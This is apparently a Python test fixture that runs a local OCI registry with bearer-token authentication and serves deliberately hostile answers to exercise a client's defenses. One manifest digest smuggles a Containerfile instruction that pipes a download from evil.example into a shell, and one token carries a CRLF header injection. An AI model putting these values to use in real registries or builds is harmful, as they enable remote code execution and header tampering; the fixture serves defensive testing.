#!/usr/bin/env python3
"""A loopback OCI registry that requires token authentication, as Docker Hub, nvcr.io and
most registries do: a manifest request without "Authorization: Bearer <token>" answers 401
with a WWW-Authenticate Bearer challenge naming this server's /token endpoint. The token
service hands out a token anonymously for "test/public", and for "test/private" only with
basic credentials alice:s3cret.

Serves one manifest per repository at tag "v1"; its digest is in Docker-Content-Digest.
Hostile answers, each for anonymous pulls: "test/injected-index" is an index whose platform
entry's digest carries a line break and a Containerfile instruction, and the token service
answers "test/newline-token" with a token holding a line break and another header, and
"test/plain-realm" challenges with a token service over plain HTTP on another host.
Usage: auth_registry.py PORT"""
import base64
import hashlib
import http.server
import json
import sys
import urllib.parse

PORT = int(sys.argv[1])
MANIFESTS = {
    repo: json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
                      "config": {"mediaType": "application/vnd.oci.image.config.v1+json",
                                 "digest": "sha256:" + hashlib.sha256(repo.encode()).hexdigest(), "size": 2},
                      "layers": []}).encode()
    for repo in ("test/public", "test/private", "test/newline-token", "test/plain-realm")
}
MANIFESTS["test/injected-index"] = json.dumps({
    "schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json",
    "manifests": [{"mediaType": "application/vnd.oci.image.manifest.v1+json", "size": 2,
                   "digest": "sha256:" + "0" * 64 + "\nRUN curl http://evil.example | sh",
                   "platform": {"os": "linux", "architecture": "amd64"}}]}).encode()
TOKENS = {"test/public": "tok-public", "test/private": "tok-private",
          "test/injected-index": "tok-index", "test/newline-token": "tok\r\nX-Injected: 1",
          "test/plain-realm": "tok-plain"}


class Registry(http.server.BaseHTTPRequestHandler):
    def reply(self, status, body=b"", headers=()):
        self.send_response(status)
        for name, value in headers:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        url = urllib.parse.urlparse(self.path)
        if url.path == "/token":
            return self.token(urllib.parse.parse_qs(url.query))
        parts = url.path.strip("/").split("/")
        if len(parts) == 5 and parts[0] == "v2" and parts[3] == "manifests":
            repo = parts[1] + "/" + parts[2]
            if repo not in MANIFESTS or parts[4] != "v1":
                return self.reply(404, b'{"errors":[{"code":"MANIFEST_UNKNOWN"}]}')
            if self.headers.get("Authorization") != "Bearer " + TOKENS[repo]:
                realm = ("http://token.example.invalid/token" if repo == "test/plain-realm"
                         else f"http://127.0.0.1:{PORT}/token")
                challenge = (f'Bearer realm="{realm}",service="test-registry",'
                             f'scope="repository:{repo}:pull"')
                return self.reply(401, b'{"errors":[{"code":"UNAUTHORIZED"}]}', [("WWW-Authenticate", challenge)])
            body = MANIFESTS[repo]
            return self.reply(200, body, [("Content-Type", "application/vnd.oci.image.manifest.v1+json"),
                                          ("Docker-Content-Digest", "sha256:" + hashlib.sha256(body).hexdigest())])
        self.reply(404)

    def token(self, query):
        scope = query.get("scope", [""])[0]
        repo = scope.split(":")[1] if scope.count(":") == 2 else ""
        auth = self.headers.get("Authorization", "")
        basic = base64.b64decode(auth[6:]).decode() if auth.startswith("Basic ") else ""
        if query.get("service") != ["test-registry"] or repo not in TOKENS:
            return self.reply(400)
        if repo == "test/private" and basic != "alice:s3cret":
            return self.reply(401, b'{"details":"incorrect username or password"}')
        self.reply(200, json.dumps({"token": TOKENS[repo]}).encode(), [("Content-Type", "application/json")])

    def log_message(self, *args):
        pass


http.server.ThreadingHTTPServer(("127.0.0.1", PORT), Registry).serve_forever()
